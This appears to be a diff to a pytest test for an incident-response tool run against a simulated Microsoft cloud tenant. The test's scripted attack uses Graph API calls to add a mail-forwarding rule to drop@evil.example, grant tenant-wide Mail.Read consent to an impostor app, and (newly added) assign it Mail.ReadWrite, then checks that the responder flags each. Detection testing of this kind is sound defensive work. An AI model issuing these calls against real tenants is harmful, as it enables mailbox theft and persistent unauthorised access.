@@ -7,6 +7,7 @@ from typing import Any, Final
 import pytest
 
 from infra.local import world
+from infra.local.tenant.app_roles import APP_ROLES, GRAPH
 from infra.local.tenant.control import TenantControl
 from infra.local.tenant.sign_in_records import sign_in_record
 from responders.rosters import PRIVILEGED_ACCOUNTS, PRIVILEGED_ACCOUNTS_OF_B2C
@@ -49,6 +50,8 @@ def attack(control: TenantControl) -> None:
         mallory.post(f"/v1.0/users/{world.ALICE.id}/mailFolders/inbox/messageRules", json=rule).raise_for_status()
         consent = {"clientId": world.IMPOSTOR.id, "consentType": "AllPrincipals", "scope": "Mail.Read"}
         mallory.post("/v1.0/oauth2PermissionGrants", json=consent).raise_for_status()
+        role = {"principalId": world.IMPOSTOR.id, "resourceId": GRAPH, "appRoleId": APP_ROLES["Mail.ReadWrite"]}
+        mallory.post(f"/v1.0/servicePrincipals/{GRAPH}/appRoleAssignedTo", json=role).raise_for_status()
 
 
 def found(end: StepEnd, words: str) -> str:
@@ -74,6 +77,9 @@ def test_an_attack_is_collected_and_what_came_later_is_new(
     assert "1 changes (1 new): Remove member from group" in found(ends[5], "mallory@")
     assert "forwards to drop@evil.example" in found(ends[7], "alice@")
     assert "for everybody: Mail.Read" in found(ends[7], "consents")
+    (app,) = [one for one in ends[7].findings if one.is_new and "every mailbox" in one.about]
+    assert "Mail.ReadWrite (Microsoft Graph)" in app.text
+    assert "MailboxSettings.Read" in found(ends[7], "every mailbox"), "what the responder itself may do is said too"
     assert len(driven.bench.teams.notices) == 1
     assert len(kept(storage, "audit log")) == 1
     assert len(kept(storage, "sign-ins of users")) == 2
